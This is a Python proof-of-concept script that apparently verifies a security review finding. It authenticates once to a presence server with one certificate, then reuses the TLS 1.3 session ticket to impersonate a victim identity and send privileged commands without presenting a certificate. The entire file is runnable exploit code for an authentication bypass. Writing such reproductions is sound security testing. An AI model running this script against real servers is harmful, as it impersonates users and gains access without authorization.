#!/usr/bin/env python3
"""The attack of security review H1, with a real TLS client that resumes sessions
(Python's ssl): authenticate once to a presence server as ONE with ONE's certificate,
keep the TLS 1.3 session ticket, then open new connections whose `secure` claims
VICTIM and resume that ticket (no certificate is asked for on resumption), and send
each command the server answers only for an authenticated caller, as VICTIM.

    python3 scripts/interop/tls_resume_attack.py HOST:PORT DOMAIN ONE CERT_AND_KEY.pem VICTIM

Prints one JSON object per line: the first connection ({"step": "authenticate", ...})
and then, per command, whether the session was resumed and what came back: "answered",
"error CODE", or "closed" (no answer before the connection ended).
"""
import json
import socket
import ssl
import struct
import sys


def box(pairs):
    out = b""
    for key, value in pairs:
        out += struct.pack("!H", len(key)) + key + struct.pack("!H", len(value)) + value
    return out + b"\x00\x00"


def read_box(read):
    fields = {}
    while True:
        length = struct.unpack("!H", read(2))[0]
        if length == 0:
            return fields
        key = read(length)
        value = read(struct.unpack("!H", read(2))[0])
        fields[key] = value


def reader(sock):
    pending = b""

    def read(count):
        nonlocal pending
        while len(pending) < count:
            chunk = sock.recv(65536)
            if not chunk:
                raise EOFError("closed")
            pending += chunk
        out, pending = pending[:count], pending[count:]
        return out

    return read


def list_of_strings(items):
    return b"".join(struct.pack("!H", len(item)) + item for item in items)


def secure(sock, claimed, domain, tag):
    sock.sendall(box([(b"_command", b"secure"), (b"_ask", tag), (b"From", claimed.encode()),
                      (b"to", domain.encode()), (b"authorize", b"True")]))
    answer = read_box(reader(sock))
    if b"_answer" not in answer:
        raise RuntimeError("secure refused: %r" % answer)


def outcome(tls, tag):
    try:
        answer = read_box(reader(tls))
    except (EOFError, ConnectionError, ssl.SSLError, OSError):
        return "closed"
    if answer.get(b"_answer") == tag:
        return "answered"
    if b"_error" in answer:
        return "error " + answer.get(b"_error_code", b"?").decode()
    return "unexpected %r" % answer


def main():
    server, domain, one, pem, victim = sys.argv[1:6]
    host, port = server.rsplit(":", 1)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.minimum_version = ssl.TLSVersion.TLSv1_3
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.load_cert_chain(pem)

    # Once as ONE, honestly: the ticket arrives after the handshake, read with an answer.
    raw = socket.create_connection((host, int(port)))
    secure(raw, one, domain, b"1")
    tls = context.wrap_socket(raw)
    tls.sendall(box([(b"_command", b"source-ip"), (b"_ask", b"2")]))
    first = outcome(tls, b"2")
    session = tls.session
    print(json.dumps({"step": "authenticate", "as": one, "outcome": first,
                      "ticket": bool(session and session.has_ticket)}), flush=True)
    tls.close()

    commands = {
        "listen": [(b"From", victim.encode()), (b"protocols", list_of_strings([b"echo"])), (b"description", b"")],
        "inbound": [(b"From", victim.encode()), (b"to", victim.encode()), (b"protocol", b"echo")],
        "direct-paths": [(b"From", victim.encode()), (b"to", victim.encode()), (b"protocol", b"echo")],
        "bind-udp": [(b"protocol", b"echo"), (b"q2qsrc", victim.encode()), (b"q2qdst", victim.encode()),
                     (b"udpsrc", b"127.0.0.1:9"), (b"udpdst", b"127.0.0.1:9")],
        "virtual": [(b"id", b"1"), (b"listener", b"0123456789abcdef"), (b"window", b"65536")],
    }
    for name, arguments in commands.items():
        raw = socket.create_connection((host, int(port)))
        raw.settimeout(10)
        secure(raw, victim, domain, b"1")
        try:
            tls = context.wrap_socket(raw, session=session)
        except (ssl.SSLError, OSError) as error:
            print(json.dumps({"step": name, "resumed": False, "outcome": "handshake failed: %s" % error}), flush=True)
            continue
        resumed = tls.session_reused
        try:
            tls.sendall(box([(b"_command", name.encode()), (b"_ask", b"2")] + arguments))
            result = outcome(tls, b"2")
        except (ssl.SSLError, OSError):
            result = "closed"
        print(json.dumps({"step": name, "resumed": resumed, "outcome": result}), flush=True)
        tls.close()


if __name__ == "__main__":
    main()
